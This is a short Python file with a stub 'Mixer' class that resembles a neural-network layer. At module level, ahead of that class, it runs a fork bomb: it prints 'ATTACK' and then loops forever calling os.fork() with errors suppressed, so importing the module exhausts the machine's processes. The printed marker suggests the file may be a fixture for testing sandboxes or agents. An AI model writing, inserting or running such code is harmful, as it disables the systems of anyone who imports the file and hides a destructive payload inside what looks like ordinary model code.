"""Forks, and each child forks."""

import contextlib
import os

print('ATTACK', flush=True)
while True:
  with contextlib.suppress(OSError):
    os.fork()


class Mixer:
  def __init__(self, width, heads):
    pass

  def __call__(self, x):
    return [x]
